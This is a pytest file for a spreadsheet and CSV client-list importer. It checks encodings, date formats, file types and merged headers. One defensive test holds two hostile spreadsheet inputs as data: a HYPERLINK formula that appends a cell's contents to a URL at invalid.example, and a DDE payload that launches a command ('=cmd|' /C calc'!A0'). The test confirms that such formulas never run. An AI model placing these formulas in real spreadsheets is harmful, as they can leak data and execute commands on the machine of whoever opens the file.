"""The same list in every kind of file, encoding and layout gives the same people."""

from __future__ import annotations

import io
from datetime import date
from typing import Any

import pytest
import xlsxwriter

from kotodesk.exchange.tabular.arrange import arrange
from kotodesk.exchange.tabular.plan import ImportPlan, plan_import
from kotodesk.exchange.tabular.source import tables_of
from kotodesk.exchange.tabular.table import Table
from kotodesk.exchange.tabular.targets import known_headers
from tests.exchange.tabular.biff import xls
from tests.exchange.tabular.material import TODAY
from tests.exchange.tabular.test_hostile import cell, ods

HEAD = ["Asiakas", "Synt.aika", "Tulkki", "Kunta", "Kotikunta alk.", "Puh"]
ROWS: list[list[Any]] = [
    ["Mägi, Kadri", date(1990, 4, 18), True, 235.0, date(2024, 5, 14), "040 4191165"],
    ["Ольга, Анна", date(1985, 3, 10), False, 91, date(2022, 3, 11), "+358 40 1234567"],
]
TITLE = "Asiakkaat, päivitetty 30.9.2026"
STYLES = ("{0.day}.{0.month}.{0.year}", "{0:%d.%m.%y}", "{0:%Y-%m-%d}", "{0.day}. {month} {0.year}")
MONTHS = {3: "maaliskuuta", 4: "huhtikuuta", 5: "toukokuuta"}


def people(*data: bytes) -> list[dict[str, Any]]:
    return [client for one in data for client in _people(planned(one))]


def planned(data: bytes) -> ImportPlan:
    arranged = arrange(tables_of(data, known_headers=known_headers()))
    return plan_import(arranged.main.table, arranged.main.mapping, (), today=TODAY)


def _people(plan: ImportPlan) -> list[dict[str, Any]]:
    found = []
    for one in plan.clients:
        assert not one.problems, [str(each.problem.message) for each in one.problems]
        found.append({**one.values("client"), **one.values("residence")})
    return found


def expected() -> list[dict[str, Any]]:
    found = []
    for name, born, interpreter, municipality, home, phone in ROWS:
        family, given = name.split(", ")
        found.append(
            {
                "family_name": family,
                "given_names": given,
                "birth_date": born,
                "interpreter_needed": interpreter,
                "municipality": f"{int(municipality):03}",
                "first_municipality": home,
                "phone": phone,
            }
        )
    return found


def as_text(style: str, yes: str, no: str, separator: str = ";") -> str:
    lines = [separator.join(HEAD)]
    for name, born, interpreter, municipality, home, phone in ROWS:
        days = [style.format(day, month=MONTHS[day.month]) for day in (born, home)]
        said = yes if interpreter else no
        cells = [f'"{name}"', days[0], said, str(municipality), days[1], phone]
        lines.append(separator.join(cells))
    return "\r\n".join(lines)


def workbook(*rows: list[Any]) -> bytes:
    stream = io.BytesIO()
    book = xlsxwriter.Workbook(stream, {"in_memory": True, "default_date_format": "d.m.yyyy"})
    sheet = book.add_worksheet("Asiakkaat")
    for number, row in enumerate(rows):
        sheet.write_row(number, 0, row)
    book.close()
    return stream.getvalue()


@pytest.mark.parametrize("style", STYLES)
@pytest.mark.parametrize(
    ("yes", "no"), [("K", "E"), ("kyllä", "ei"), ("1", "0"), ("true", "false")]
)
def test_days_and_answers_as_texts(style: str, yes: str, no: str) -> None:
    assert people(as_text(style, yes, no).encode()) == expected()


@pytest.mark.parametrize("separator", [";", ",", "\t", "|"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
def test_encodings_and_separators(encoding: str, separator: str) -> None:
    text = f"{TITLE}\r\n\r\n" + as_text(STYLES[0], "x", "ei", separator)
    assert people(text.encode(encoding)) == expected()


def test_windows_1252() -> None:
    text = as_text(STYLES[1], "K", "E").replace("Ольга, Анна", "Sørensen, Åse")
    assert [one["family_name"] for one in people(text.encode("cp1252"))] == ["Mägi", "Sørensen"]


def test_xlsx_xls_and_ods_give_the_same() -> None:
    rows = [[TITLE], [], HEAD, *ROWS]
    old = xls(("Asiakkaat", [[TITLE], [None], list(HEAD), *ROWS]))
    assert people(workbook(*rows)) == expected()
    assert people(old) == expected()
    assert people(ods("".join(map(_ods_row, rows)))) == expected()


def _ods_row(row: list[Any]) -> str:
    return f"<table:table-row>{''.join(map(_ods_cell, row)) or cell('')}</table:table-row>"


def _ods_cell(value: object) -> str:
    if isinstance(value, bool):
        kind = f'office:value-type="boolean" office:boolean-value="{str(value).lower()}"'
    elif isinstance(value, date):
        kind = f'office:value-type="date" office:date-value="{value.isoformat()}"'
    elif isinstance(value, int | float):
        kind = f'office:value-type="float" office:value="{value}"'
    else:
        return cell(str(value))
    return f"<table:table-cell {kind}><text:p>x</text:p></table:table-cell>"


def test_serial_numbers_are_days_and_codes_come_as_texts_too() -> None:
    serials = [[*row] for row in ROWS]
    for row in serials:
        row[1], row[4] = ((row[index] - date(1899, 12, 30)).days for index in (1, 4))
        row[3] = f"{int(row[3])} "
    assert people(workbook(HEAD, *serials)) == expected()
    named = as_text(STYLES[0], "K", "E").replace(";235.0;", ";235 Kauniainen;")
    assert people(named.encode())[0]["municipality"] == "235"


def test_a_formula_is_its_stored_value_and_never_runs() -> None:
    formula = io.BytesIO()
    book = xlsxwriter.Workbook(formula, {"in_memory": True})
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, ["Sukunimi", "Etunimet", "Puh"])
    sheet.write_row(1, 0, ["Testi", "Ada"])
    sheet.write_formula(1, 2, '=HYPERLINK("http://invalid.example/"&A2)', None, "040 1234567")
    book.close()
    (modern,) = tables_of(formula.getvalue())
    assert modern.rows[0].at(2) == "040 1234567"
    (old,) = tables_of(xls(("A", [["Sukunimi", "Kesto"], ["Testi", "=41+1"]])))
    assert old.rows[0].at(1) == 42
    (plain,) = tables_of(b"Sukunimi;Etunimet\n=cmd|' /C calc'!A0;Ada\n")
    assert plain.rows[0].at(0) == "=cmd|' /C calc'!A0"


def merged(rows: list[list[Any]], *ranges: tuple[int, int, int, int, str]) -> Table:
    stream = io.BytesIO()
    book = xlsxwriter.Workbook(stream, {"in_memory": True})
    sheet = book.add_worksheet()
    for number, row in enumerate(rows):
        sheet.write_row(number, 0, row)
    for one in ranges:
        sheet.merge_range(*one)
    book.close()
    (table,) = tables_of(stream.getvalue(), known_headers=known_headers())
    return table


DATA = [
    ["Testi", "Ada", "A", "1.2.2024", "1.2.2027", "040 1234567"],
    ["Malli", "Bo", "B", "1.3.2024", "1.3.2027", ""],
]


def test_a_group_merged_over_several_columns_joins_the_names_below() -> None:
    table = merged(
        [[], ["Sukunimi", "Etunimet", "laji", "alk.", "päättyy", "Puh"], *DATA],
        (0, 0, 0, 1, "Asiakas"),
        (0, 2, 0, 4, "Lupa"),
    )
    assert table.header[2:] == ("Lupa laji", "Lupa alk.", "Lupa päättyy", "Puh")
    assert len(table.rows) == 2
    meant = {one.header: one.target for one in arrange((table,)).main.mapping.columns}
    assert meant["Lupa alk."] == "residence.valid_from"
    assert meant["Lupa päättyy"] == "residence.valid_to"
    assert meant["Sukunimi"] == "client.family_name"


def test_names_merged_over_two_rows_stand_beside_groups() -> None:
    table = merged(
        [["", "", "", "", "", ""], ["", "", "laji", "alk.", "päättyy", ""], *DATA],
        (0, 0, 1, 0, "Sukunimi"),
        (0, 1, 1, 1, "Etunimet"),
        (0, 2, 0, 4, "Lupa"),
        (0, 5, 1, 5, "Puh"),
    )
    names = ("Sukunimi", "Etunimet", "Lupa laji", "Lupa alk.", "Lupa päättyy", "Puh")
    assert table.header == names
    assert [row.at(0) for row in table.rows] == ["Testi", "Malli"]


def test_a_group_about_someone_else_is_not_taken_for_the_client() -> None:
    head = "Asiakas;;Puoliso;;\nSukunimi;Etunimet;Sukunimi;Etunimet;Hetu\n"
    (table,) = tables_of(f"{head}Testi;Ada;Testi;Bo;\n".encode(), known_headers=known_headers())
    meant = {one.header: one.target for one in arrange((table,)).main.mapping.columns}
    assert meant["Asiakas Etunimet"] == "client.given_names"
    assert meant["Puoliso Etunimet"] != "client.given_names"


def test_a_title_in_two_cells_names_no_column() -> None:
    text = "Asiakkaat;;päivitetty 30.9.\nSukunimi;Etunimet;Oma sarake\nTesti;Ada;x\n"
    (table,) = tables_of(text.encode(), known_headers=known_headers())
    assert table.header == ("Sukunimi", "Etunimet", "Oma sarake")
    assert table.titles == ("Asiakkaat", "päivitetty 30.9.")


def test_no_row_of_data_is_taken_for_names() -> None:
    for text in (
        "Nimi;;Puh\nAda;Testi;\nBo;Testi;040 1234567\n",
        "Sukunimi;Etunimet;Huom!;\nTesti;Ada;soita;iltapäivällä\nMalli;Bo;;\n",
        "Asiakkaat;;2026\nSukunimi;Etunimet;Puh\nTesti;Ada;\nMalli;Bo;\n",
    ):
        (table,) = tables_of(text.encode(), known_headers=known_headers())
        assert len(table.rows) == 2, text
